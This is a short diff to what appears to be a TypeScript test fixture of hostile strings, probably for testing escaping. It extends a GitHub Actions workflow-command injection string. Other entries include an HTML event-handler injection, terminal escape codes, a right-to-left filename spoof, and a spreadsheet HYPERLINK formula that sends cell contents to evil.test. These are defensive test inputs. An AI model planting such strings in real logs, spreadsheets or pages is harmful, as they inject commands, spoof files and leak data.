@@ -88,7 +88,7 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   quotes: `"'\`onmouseover="alert(1)`,
   control: `a${ESC}[2Jb\u0000c\u0007d\ud800e`,
   'right to left': `${RIGHT_TO_LEFT}gpj.exe שלום`,
-  command: '::error title=x::y%0A::set-output name=a::b\r\n::stop-commands::z',
+  command: '::error title=x::y%0A::set-output name=a::b\r\n::stop-commands::z ##[error]w',
   markdown: '| x | [a](https://evil.test) @livekit #12 `b`',
   formula: '=HYPERLINK("https://evil.test?"&A1;"x")',
   comment: '<!-- ]]> --> &lt; {{x}} %s',
